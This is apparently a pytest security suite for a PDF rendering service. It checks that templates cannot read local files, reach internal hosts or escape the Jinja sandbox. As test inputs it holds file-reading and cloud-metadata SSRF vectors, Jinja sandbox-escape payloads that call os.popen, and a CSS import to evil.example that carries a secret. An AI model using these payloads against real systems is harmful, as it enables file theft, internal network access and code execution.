"""Templates cannot read local files or reach the network; sandbox escapes fail; resources are bounded."""
from __future__ import annotations

import http.client
import io
import logging
import socketserver
import threading
import time
from pathlib import Path
from typing import Any, Callable, Iterator

import pytest
import requests
from pypdf import PdfReader

import worker.fetcher
from shared import netguard
from shared.config import PROJECT_ROOT
from shared.errors import PageLimitExceeded, TemplateError
from shared.logs import JsonFormatter, quiet_weasyprint
from shared.netguard import BlockedTarget, check_public_url, resolve_public
from tests.conftest import TENANT_KEYS, JobsClient
from tests.support import Honeypot, LiveServer, WorkerProcess, wait_until
from worker.render import Renderer


@pytest.fixture(scope="module")
def renderer() -> Renderer:
    return Renderer(PROJECT_ROOT / "templates", allowed_asset_hosts=frozenset({"localhost"}), max_pages=50)


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">{}</svg>'
HTML_VECTORS = {
    "link-stylesheet-file": ('<link rel="stylesheet" href="{file}">', "file://"),
    "link-stylesheet-http": ('<link rel="stylesheet" href="{pot}/link.css">', "http://127.0.0.1"),
    "link-attachment-file": ('<link rel="attachment" href="{file}">', "file://"),
    "import-http": ("<style>@import url({pot}/import.css);</style>", "http://127.0.0.1"),
    "import-file": ("<style>@import url({file});</style>", "file://"),
    "background-http": ("<style>body {{ background: url({pot}/bg.png) }}</style>", "http://127.0.0.1"),
    "font-face-http": ("<style>@font-face {{ font-family: x; src: url({pot}/font.woff) }} p {{ font-family: x }}</style>",
                       "http://127.0.0.1"),
    "color-profile-http": ("<style>@color-profile --x {{ src: url({pot}/profile.icc) }}"
                           " p {{ color: color(--x 0 0 0) }}</style>", "http://127.0.0.1"),
    "img-file": ('<img src="{file}">', "file://"),
    "img-absolute-path": ('<img src="/etc/passwd">', "file://"),
    "img-dot-dot": ('<img src="../../../../etc/passwd">', "file://"),
    "img-http": ('<img src="{pot}/img.png">', "http://127.0.0.1"),
    "img-metadata": ('<img src="http://169.254.169.254/latest/meta-data/">', "http://169.254.169.254"),
    "img-allowed-host-but-loopback": ('<img src="https://localhost:{port}/loopback.png">', "https://localhost"),
    "object-file": ('<object data="{file}"></object>', "file://"),
    "object-http": ('<object data="{pot}/object"></object>', "http://127.0.0.1"),
    "embed-http": ('<embed src="{pot}/embed">', "http://127.0.0.1"),
    "a-attachment-file": ('<a rel="attachment" href="{file}">a</a>', "file://"),
    "style-attribute-file": ('<div style="background-image: url({file})">x</div>', "file://"),
    "svg-image-http": (SVG.format('<image href="{pot}/svg-image" width="10" height="10"/>'), "http://127.0.0.1"),
    "svg-xlink-file": (SVG.format('<image xlink:href="{file}" width="10" height="10"/>'), "file://"),
}
"""Every way HTML, CSS and SVG can ask WeasyPrint to load something, with the origin its refusal names."""
CSS_VECTORS = {
    "user-css-import-http": ("@import url({pot}/user-css);", "http://127.0.0.1"),
    "user-css-import-file": ("@import url({file});", "file://"),
}
"""The same through the job's `css` stylesheet."""


def fill(markup: str, secret: Path, pot: Honeypot) -> str:
    return markup.format(file=secret.as_uri(), pot=pot.url(""), port=pot.port)


def attack_html(secret: Path, pot: Honeypot) -> str:
    """One document carrying every HTML vector."""
    return "<p>visible text</p>" + "".join(fill(markup, secret, pot) for markup, _ in HTML_VECTORS.values())


def assert_nothing_leaked(content: bytes, secret: Path, pot: Honeypot) -> None:
    reader = PdfReader(io.BytesIO(content))
    text = "\n".join(page.extract_text() for page in reader.pages)
    assert "visible text" in text
    assert "TOPSECRET" not in text and "root:" not in text and "HONEYPOT" not in text
    assert reader.attachments == {}
    assert b"TOPSECRET" not in content
    assert pot.connections == []


def refused_origins(caplog: pytest.LogCaptureFixture) -> set[str]:
    return {record.url for record in caplog.records if record.msg == "asset refused"}


@pytest.mark.parametrize(("markup", "origin"), HTML_VECTORS.values(), ids=HTML_VECTORS.keys())
def test_each_html_vector_is_refused(renderer: Renderer, secret_file: Path, honeypot: Honeypot,
                                     caplog: pytest.LogCaptureFixture, markup: str, origin: str) -> None:
    """The vector's URL is refused and logged by scheme and host; nothing connects, the render goes on, nothing leaks."""
    caplog.set_level(logging.WARNING)
    pdf = renderer.render(template=None, html="<p>visible text</p>" + fill(markup, secret_file, honeypot), data={})
    assert refused_origins(caplog) == {origin}
    assert_nothing_leaked(pdf.content, secret_file, honeypot)


@pytest.mark.parametrize(("markup", "origin"), CSS_VECTORS.values(), ids=CSS_VECTORS.keys())
def test_each_css_vector_is_refused(renderer: Renderer, secret_file: Path, honeypot: Honeypot,
                                    caplog: pytest.LogCaptureFixture, markup: str, origin: str) -> None:
    """An @import in the job's own stylesheet is refused and logged too; nothing connects or leaks."""
    caplog.set_level(logging.WARNING)
    pdf = renderer.render(template=None, html="<p>visible text</p>", data={}, css=fill(markup, secret_file, honeypot))
    assert refused_origins(caplog) == {origin}
    assert_nothing_leaked(pdf.content, secret_file, honeypot)


@pytest.mark.parametrize("check", [resolve_public, check_public_url])
@pytest.mark.parametrize("url", [
    "https://127.0.0.1/", "https://[::1]/", "http://169.254.169.254/latest/meta-data/", "https://10.0.0.1/",
    "https://192.168.1.1/", "https://[::ffff:127.0.0.1]/", "https://0.0.0.0/", "https://localhost/",
])
def test_non_public_targets_are_blocked(check: Callable[[str], object], url: str) -> None:
    """Loopback, link-local, private, IPv4-mapped loopback, unspecified and names resolving to loopback are blocked."""
    with pytest.raises(BlockedTarget):
        check(url)


def test_public_literal_address_is_allowed() -> None:
    """A public address passes both checks, and resolve_public returns it for the pinned connection."""
    check_public_url("https://93.184.216.34/logo.png")
    assert resolve_public("https://93.184.216.34/logo.png") == "93.184.216.34"


def test_slow_dns_is_refused_within_its_timeout(monkeypatch: pytest.MonkeyPatch) -> None:
    """A host whose lookup hangs is refused after DNS_TIMEOUT_S instead of holding a request or a render."""
    monkeypatch.setattr(netguard.socket, "getaddrinfo", lambda *args, **kwargs: time.sleep(30))
    started = time.monotonic()
    with pytest.raises(BlockedTarget, match="within"):
        resolve_public("https://slow-dns.example/logo.png")
    assert time.monotonic() - started < netguard.DNS_TIMEOUT_S + 1


def test_resolver_answering_none_counts_as_not_resolving(monkeypatch: pytest.MonkeyPatch) -> None:
    """A getaddrinfo that returns None is refused as "does not resolve", with no error in the lookup thread."""
    raised: list[BaseException | None] = []
    monkeypatch.setattr(threading, "excepthook", lambda args: raised.append(args.exc_value))
    monkeypatch.setattr(netguard.socket, "getaddrinfo", lambda *args, **kwargs: None)
    with pytest.raises(BlockedTarget, match="does not resolve"):
        resolve_public("https://none-answer.example/logo.png")
    assert raised == []


def test_templates_dir_assets_still_load(renderer: Renderer) -> None:
    """Files under templates/ (stylesheet, logo, fonts) are served to the render."""
    fetched = renderer.fetcher.fetch((PROJECT_ROOT / "templates" / "assets" / "logo.svg").as_uri())
    assert fetched.read().startswith(b"<") and "svg" in fetched.content_type
    with pytest.raises(OSError):
        renderer.fetcher.fetch((PROJECT_ROOT / "templates" / ".." / "shared" / "config.py").as_uri())


def test_symlink_out_of_templates_is_refused(tmp_path: Path, secret_file: Path) -> None:
    """A symlink inside templates/ that points outside is resolved and refused."""
    (tmp_path / "templates").mkdir()
    (tmp_path / "templates" / "leak.css").symlink_to(secret_file)
    fetcher = worker.fetcher.RestrictedURLFetcher(tmp_path / "templates", frozenset())
    with pytest.raises(OSError):
        fetcher.fetch((tmp_path / "templates" / "leak.css").as_uri())


@pytest.fixture
def allowed_host_on(monkeypatch: pytest.MonkeyPatch) -> Callable[[int], worker.fetcher.RestrictedURLFetcher]:
    """A fetcher whose allow-listed https://assets.example.com is served, over plain HTTP, by a local port."""

    def fetcher_for(port: int) -> worker.fetcher.RestrictedURLFetcher:
        class PlainPinned(http.client.HTTPConnection):
            def __init__(self, host: str, address: str, **kwargs: Any) -> None:
                super().__init__(address, **{**kwargs, "port": port})

        monkeypatch.setattr(worker.fetcher, "resolve_public", lambda url, schemes: "127.0.0.1")
        monkeypatch.setattr(worker.fetcher, "PinnedHTTPSConnection", PlainPinned)
        return worker.fetcher.RestrictedURLFetcher(PROJECT_ROOT / "templates", frozenset({"assets.example.com"}))

    return fetcher_for


def test_redirect_from_allowed_host_is_not_followed(allowed_host_on: Callable[[int], Any], honeypot: Honeypot) -> None:
    """An allow-listed host that redirects (e.g. to loopback) is refused; the target is never requested."""
    fetcher = allowed_host_on(honeypot.port)
    assert fetcher.fetch("https://assets.example.com/ok.css").read() == b"HONEYPOT-CONTENT"
    with pytest.raises(OSError):
        fetcher.fetch("https://assets.example.com/redirect")
    assert honeypot.paths == ["/ok.css", "/redirect"]


class TricklingServer(socketserver.ThreadingTCPServer):
    """Answers any request with a small CSS response sent one byte at a time from `trickle_from` on."""

    daemon_threads = True
    RESPONSE = b"HTTP/1.0 200 OK\r\nContent-Type: text/css\r\nContent-Length: 20\r\n\r\nbody { color: red } "
    """HTTP/1.0: the connection hands its socket to the response, which must read the rest on its own."""

    def __init__(self, trickle_from: int, interval_s: float) -> None:
        server = self

        class Handler(socketserver.BaseRequestHandler):
            def handle(self) -> None:
                self.request.recv(65536)
                try:
                    self.request.sendall(server.RESPONSE[:trickle_from])
                    for byte in server.RESPONSE[trickle_from:]:
                        time.sleep(interval_s)
                        self.request.sendall(bytes([byte]))
                except OSError:  # The client gave up: what the test wants.
                    pass

        super().__init__(("127.0.0.1", 0), Handler)
        self.port = self.server_address[1]
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self.shutdown()
        self.server_close()


@pytest.mark.parametrize("trickle_from", [len(TricklingServer.RESPONSE) - 20, 10], ids=["body", "headers"])
def test_trickling_asset_host_is_cut_off_at_one_deadline(allowed_host_on: Callable[[int], Any], trickle_from: int,
                                                         monkeypatch: pytest.MonkeyPatch,
                                                         caplog: pytest.LogCaptureFixture) -> None:
    """A host sending a byte every 0.3 s (each read within the socket timeout) is refused at the 1 s asset deadline."""
    monkeypatch.setattr(worker.fetcher, "REMOTE_ASSET_TIMEOUT_S", 1)
    server = TricklingServer(trickle_from, interval_s=0.3)
    fetcher = allowed_host_on(server.port)
    started = time.monotonic()
    try:
        with pytest.raises(OSError):
            fetcher.fetch("https://assets.example.com/slow.css")
    finally:
        server.stop()
    assert time.monotonic() - started < 1.8
    assert any(r.msg == "asset refused" and "1 s" in r.reason for r in caplog.records)


def test_asset_arriving_in_pieces_within_the_deadline_is_read_whole(allowed_host_on: Callable[[int], Any],
                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    """A body sent byte by byte after the headers, well within the deadline, is fetched complete."""
    monkeypatch.setattr(worker.fetcher, "REMOTE_ASSET_TIMEOUT_S", 2)
    server = TricklingServer(len(TricklingServer.RESPONSE) - 20, interval_s=0.01)
    try:
        assert allowed_host_on(server.port).fetch("https://assets.example.com/ok.css").read() == b"body { color: red } "
    finally:
        server.stop()


@pytest.mark.parametrize("source", [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ data.__class__.__base__.__subclasses__() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os.environ }}",
    "{{ joiner.__init__.__globals__ }}",
    "{% set x = namespace.__init__.__globals__ %}{{ x }}",
    "{{ self._TemplateReference__context }}",
    "{{ range.__self__ }}",
    "{{ config }}",
])
def test_sandbox_escapes_fail_as_template_error(renderer: Renderer, source: str) -> None:
    """Inline templates cannot reach Python internals, the OS or the environment."""
    with pytest.raises(TemplateError):
        renderer.render(template=None, html=source, data={})


def test_ten_thousand_pages_stop_at_the_page_limit(renderer: Renderer) -> None:
    """Layout stops as soon as the document passes max_pages, with a clear error."""
    html = "{% for i in range(10000) %}<p style='break-after: page'>{{ i }}</p>{% endfor %}"
    with pytest.raises(PageLimitExceeded, match="limit of 50 pages"):
        renderer.render(template=None, html=html, data={})


def test_attack_through_the_api_fails_safe(private_db: dict[str, str], jobs: JobsClient, client,
                                           spawn_worker: Callable[..., WorkerProcess], secret_file: Path,
                                           honeypot: Honeypot) -> None:
    """End to end: the attack document renders without leaks; a 10,000-page one fails with page_limit."""
    spawn_worker({**private_db, "MAX_PAGES": "100"})
    leaky = jobs.wait(jobs.submit({"html": attack_html(secret_file, honeypot)})["id"])
    assert leaky["status"] == "completed", leaky
    assert_nothing_leaked(client.get(leaky["links"]["pdf"]).data, secret_file, honeypot)
    huge = jobs.submit({"html": "{% for i in range(10000) %}<p style='break-after: page'>{{ i }}</p>{% endfor %}"})
    failed = jobs.wait(huge["id"], timeout=90)
    assert failed["status"] == "failed" and failed["error"]["code"] == "page_limit" and failed["attempts"] == 1


def test_memory_cap_fails_the_job_not_the_worker(private_db: dict[str, str], jobs: JobsClient,
                                                 spawn_worker: Callable[..., WorkerProcess]) -> None:
    """A render that needs more than WORKER_MEMORY_LIMIT_MB fails; the worker keeps serving."""
    spawn_worker({**private_db, "WORKER_MEMORY_LIMIT_MB": "400"})
    hog = jobs.submit({"html": "{% set s = 'x' * (400 * 1024 * 1024) %}{{ s|length }}", "max_retries": 0})
    failed = jobs.wait(hog["id"], timeout=60)
    assert failed["status"] == "failed" and failed["error"]["code"] == "memory_limit", failed
    assert jobs.wait(jobs.submit({"html": "<p>fine</p>"})["id"])["status"] == "completed"


def test_api_keys_and_template_data_never_logged(no_workers: None, client, auth,
                                                 caplog: pytest.LogCaptureFixture) -> None:
    """Requests, including failed ones, log neither API keys nor template data."""
    caplog.set_level(logging.DEBUG)
    client.post("/v1/jobs", json={"html": "<p>{{ card }}</p>", "data": {"card": "4111-SECRET-DATA"}},
                headers=auth.headers())
    client.get("/v1/jobs", headers={"Authorization": "Bearer wrong-key-123"})
    logged = caplog.text + "".join(str(r.__dict__) for r in caplog.records)
    assert "4111-SECRET-DATA" not in logged
    assert all(key not in logged for key in TENANT_KEYS.values()) and "wrong-key-123" not in logged


LEAK = "SSN-999-LEAK"
LEAKY_HTML = (f"<style>p {{ colr: {LEAK} }} @font-face {{ font-family: {LEAK}; src: url(http://127.0.0.1/{LEAK}.woff) }}"
              f"</style><p style='colr: {LEAK}'>{{{{ name }}}}</p><img src='https://localhost/a.png?ssn={LEAK}'>"
              f"<img src='http://127.0.0.1/{LEAK}/b.png'><link rel=stylesheet href='file:///{LEAK}.css'>")
LEAKY_CSS = f"@import url(https://evil.example/?q={LEAK}); h1 {{ colr: {LEAK} }}"
"""A document carrying a secret in CSS declarations, a font family, asset URLs (paths and queries) and its data."""


def logged_text(records: list[logging.LogRecord]) -> str:
    """All a log line could show: each record as the JSON formatter writes it, plus every raw attribute."""
    return "\n".join(JsonFormatter().format(record) + str(vars(record)) for record in records)


@pytest.fixture
def worker_log_policy() -> Iterator[None]:
    """The workers' policy for WeasyPrint's logger (shared/logs.py), undone after the test."""
    weasyprint_logger = logging.getLogger("weasyprint")
    level, filters = weasyprint_logger.level, list(weasyprint_logger.filters)
    quiet_weasyprint()
    yield
    weasyprint_logger.setLevel(level)
    weasyprint_logger.filters[:] = filters


def test_render_logs_no_template_data(renderer: Renderer, worker_log_policy: None,
                                      caplog: pytest.LogCaptureFixture) -> None:
    """Secrets in CSS, asset URLs and template values reach no log record; refusals are logged by scheme and host."""
    caplog.set_level(logging.DEBUG)
    renderer.render(template=None, html=LEAKY_HTML, data={"name": LEAK}, css=LEAKY_CSS)
    with pytest.raises(TemplateError, match=LEAK):  # The tenant reads it in error.message; logs must not.
        renderer.render(template=None, html="{{ amount|money }}", data={"amount": LEAK})
    refused = {record.url for record in caplog.records if record.msg == "asset refused"}
    assert refused == {"https://localhost", "http://127.0.0.1", "file://", "https://evil.example"}
    assert LEAK not in logged_text(caplog.records)


def test_worker_logs_no_template_data(private_db: dict[str, str], jobs: JobsClient,
                                      spawn_worker: Callable[..., WorkerProcess]) -> None:
    """End to end: a job with secrets in CSS, asset URLs and data completes; the worker's log holds none of them."""
    worker = spawn_worker(private_db)
    done = jobs.wait(jobs.submit({"html": LEAKY_HTML, "data": {"name": LEAK}, "css": LEAKY_CSS})["id"])
    assert done["status"] == "completed", done
    wait_until(lambda: done["id"] in worker.log_path.read_text(), timeout=10)
    log = worker.log_path.read_text()
    assert "asset refused" in log and LEAK not in log


def test_security_headers_and_no_server_banner(live_api: LiveServer) -> None:
    """Responses carry nosniff and a CSP, and do not announce gunicorn or its version."""
    response = requests.get(f"{live_api.url}/v1/jobs", headers={"Authorization": "Bearer nope"}, timeout=5)
    assert response.status_code == 401
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "default-src 'none'" in response.headers["Content-Security-Policy"]
    assert "gunicorn" not in response.headers.get("Server", "").lower()
